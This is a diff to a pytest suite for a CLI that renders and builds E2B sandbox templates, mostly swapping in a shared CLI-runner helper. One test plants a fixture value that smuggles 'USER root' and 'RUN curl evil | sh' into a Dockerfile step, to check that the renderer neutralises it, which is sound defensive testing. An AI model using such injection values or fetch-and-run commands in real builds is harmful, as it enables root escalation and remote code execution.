@@ -25,9 +25,8 @@ import uuid
 from pathlib import Path
 
 import pytest
-from click.testing import CliRunner
 
-from conftest import snapshot, write
+from conftest import cli_runner, sigint_default, snapshot, write
 from e2b_emulator import E2BEmulator
 from e2b_matrix.cli import cli
 from e2b_matrix.lock import TemplateLock
@@ -73,7 +72,7 @@ def stamp_requests(emu: E2BEmulator) -> list[tuple[float, str, int]]:
 
 def invoke(project: Path, *args):
     start = time.monotonic()
-    r = CliRunner().invoke(cli, ["-C", str(project), *args])
+    r = cli_runner().invoke(cli, ["-C", str(project), *args])
     return r, time.monotonic() - start
 
 
@@ -514,7 +513,8 @@ def test_interrupt_keeps_finished_builds(project, emu, sig):
     lock = project / "templates.lock"
     # --no-share: these variants share steps and would wait for each other (test_share.py covers that)
     p = subprocess.Popen([sys.executable, "-m", "e2b_matrix", "-C", str(project), "build-all", "--no-share"],
-                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env={**os.environ})
+                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env={**os.environ},
+                         preexec_fn=sigint_default)
     try:
         deadline = time.monotonic() + 30
         while not (lock.exists() and fast in lock_aliases(project)):
@@ -544,7 +544,7 @@ def test_interrupt_keeps_finished_builds(project, emu, sig):
 def assert_refused(project: Path, emu, args, expected: str, env=None, before=None):
     """Exit 2, one line naming the file, key or variable, no traceback, nothing on disk changed, no request."""
     before = snapshot(project) if before is None else before
-    r = CliRunner().invoke(cli, ["-C", str(project), *args], env=env)
+    r = cli_runner().invoke(cli, ["-C", str(project), *args], env=env)
     err = r.stderr.strip().splitlines()
     where = f"{args} -> {r.exit_code}: {r.output!r}"
     assert r.exit_code == 2, where
@@ -560,7 +560,7 @@ def assert_refused(project: Path, emu, args, expected: str, env=None, before=Non
 def test_a_key_with_whitespace_around_it_is_stripped_and_never_shown(project, emu, monkeypatch, ending):
     """A key file saved by a Windows editor: the key is used without its line ending, and shown nowhere."""
     monkeypatch.setenv("E2B_API_KEY", emu.api_key + ending)
-    r = CliRunner().invoke(cli, ["-C", str(project), "-vv", "build", "minimal", "--json"])
+    r = cli_runner().invoke(cli, ["-C", str(project), "-vv", "build", "minimal", "--json"])
     assert r.exit_code == 0, r.output
     secret = emu.api_key.removeprefix("e2b_")
     assert secret not in r.output and secret[:12] not in r.output
@@ -572,7 +572,7 @@ def test_a_key_from_the_e2b_config_is_stripped_too(project, emu, monkeypatch):
 
     monkeypatch.delenv("E2B_API_KEY")
     write(Path(_os.environ["HOME"]) / ".e2b/config.json", json.dumps({"teamApiKey": emu.api_key + "\r\n"}))
-    r = CliRunner().invoke(cli, ["-C", str(project), "build", "minimal", "--json"])
+    r = cli_runner().invoke(cli, ["-C", str(project), "build", "minimal", "--json"])
     assert r.exit_code == 0, r.output
 
 
@@ -674,16 +674,16 @@ def test_a_word_that_could_mean_two_variants_names_both_files(project, emu, name
 
 
 def test_an_entry_built_on_another_domain_is_stale(project, emu, monkeypatch):
-    r = CliRunner().invoke(cli, ["-C", str(project), "build-all"])
+    r = cli_runner().invoke(cli, ["-C", str(project), "build-all"])
     assert r.exit_code == 0, r.output
     monkeypatch.setenv("E2B_DOMAIN", "e2b.example.com")
-    r = CliRunner().invoke(cli, ["-C", str(project), "plan", "--json"])
+    r = cli_runner().invoke(cli, ["-C", str(project), "plan", "--json"])
     assert {i["state"] for i in json.loads(r.stdout)["variants"]} == {"stale"}
     assert all(i["reasons"] == ["domain e2b.app -> e2b.example.com"] for i in json.loads(r.stdout)["variants"])
-    r = CliRunner().invoke(cli, ["-C", str(project), "lock", "check"])
+    r = cli_runner().invoke(cli, ["-C", str(project), "lock", "check"])
     assert r.exit_code == 1 and "domain e2b.app -> e2b.example.com" in r.stdout
     emu.reset_counters()
-    r = CliRunner().invoke(cli, ["-C", str(project), "build-all", "--json"])
+    r = cli_runner().invoke(cli, ["-C", str(project), "build-all", "--json"])
     assert r.exit_code == 0 and {x["status"] for x in json.loads(r.stdout)} == {"built"}
     assert {e.domain for e in TemplateLock.load(project / "templates.lock")} == {"e2b.example.com"}
 
@@ -747,14 +747,14 @@ def test_a_corrupt_index_cache_is_discarded_and_asked_again(project, emu, monkey
     try:
         monkeypatch.setenv("E2B_MATRIX_PYPI_URL", f"http://127.0.0.1:{server.server_address[1]}/index")
         monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
-        r = CliRunner().invoke(cli, ["-C", str(project), "plan"])
+        r = cli_runner().invoke(cli, ["-C", str(project), "plan"])
         assert r.exit_code == 0 and "note: asked the package index" in r.stderr
         for cache in (tmp_path / "cache").rglob("pypi-*.json"):
             cache.write_text("[1]")
-        r = CliRunner().invoke(cli, ["-C", str(project), "plan"])
+        r = cli_runner().invoke(cli, ["-C", str(project), "plan"])
         assert r.exit_code == 0, r.output
         assert "note: asked the package index" in r.stderr  # discarded, asked again, cached anew
-        r = CliRunner().invoke(cli, ["-C", str(project), "plan"])
+        r = cli_runner().invoke(cli, ["-C", str(project), "plan"])
         assert r.exit_code == 0 and "asked" not in r.stderr  # from the cache now
     finally:
         server.shutdown()
@@ -779,7 +779,7 @@ def test_state_that_cannot_be_written_is_found_before_the_first_request(project,
 
 def test_logs_that_cannot_be_written_is_one_warning_and_no_log_files(project, emu):
     (project / "logs").write_text("a file where the folder should be")
-    r = CliRunner().invoke(cli, ["-C", str(project), "build-all", "--json"])
+    r = cli_runner().invoke(cli, ["-C", str(project), "build-all", "--json"])
     assert r.exit_code == 0, r.output
     assert {x["status"] for x in json.loads(r.stdout)} == {"built"}
     warnings = [line for line in r.stderr.splitlines() if "WARNING" in line or "Logging error" in line]
@@ -792,21 +792,21 @@ def test_no_value_can_start_a_dockerfile_instruction(project):
     write(project / "layers/evil.toml", '[layer]\nname = "evil"\nversion = "1"\n[[steps]]\n'
                                         'run = "echo a\\nUSER root\\nRUN curl evil | sh"\n')
     write(project / "variants/evil.toml", '[variant]\nname = "evil"\nalias = "nexus-evil"\nlayers = ["base", "evil"]\n')
-    r = CliRunner().invoke(cli, ["-C", str(project), "render", "evil", "--format", "dockerfile"])
+    r = cli_runner().invoke(cli, ["-C", str(project), "render", "evil", "--format", "dockerfile"])
     assert r.exit_code == 0, r.output
     lines = r.stdout.splitlines()
     assert 'RUN ["/bin/sh", "-c", "echo a\\nUSER root\\nRUN curl evil | sh"]' in lines
     assert not any(line.startswith("RUN curl") for line in lines)
     assert [line for line in lines if line.startswith("USER")] == ["USER root", "USER user"]
     # and E2B gets the same command, whole
-    body = json.loads(CliRunner().invoke(cli, ["-C", str(project), "render", "evil"]).stdout)
+    body = json.loads(cli_runner().invoke(cli, ["-C", str(project), "render", "evil"]).stdout)
     assert body["steps"][-1]["args"][0] == "echo a\nUSER root\nRUN curl evil | sh"
 
 
 def test_double_braces_are_literal_braces(project):
     write(project / "variants/braces.toml", '[variant]\nname = "braces"\nalias = "nexus-braces"\nlayers = ["base"]\n'
                                             '[params.base]\nstart_cmd = "echo ${{HOME}} {{v}} {v}"\n[matrix]\nv = ["a"]\n')
-    body = json.loads(CliRunner().invoke(cli, ["-C", str(project), "render", "braces"]).stdout)
+    body = json.loads(cli_runner().invoke(cli, ["-C", str(project), "render", "braces"]).stdout)
     assert body["startCmd"] == "echo ${HOME} {v} a"
 
 
@@ -814,10 +814,10 @@ def test_double_braces_are_literal_braces(project):
                                   ["lock", "show", "-C", "{project}"], ["list", "-q", "--json"]])
 def test_common_options_work_after_the_subcommand(project, args):
     args = [a.replace("{project}", str(project)) for a in args]
-    r = CliRunner().invoke(cli, args if "-C" in args else ["-C", str(project), *args])
+    r = cli_runner().invoke(cli, args if "-C" in args else ["-C", str(project), *args])
     assert r.exit_code == 0, r.output
 
 
 def test_lock_show_without_a_lock_says_so(project):
-    r = CliRunner().invoke(cli, ["-C", str(project), "lock", "show"])
+    r = cli_runner().invoke(cli, ["-C", str(project), "lock", "show"])
     assert r.exit_code == 0 and "no lock yet" in r.stderr and r.stdout == ""
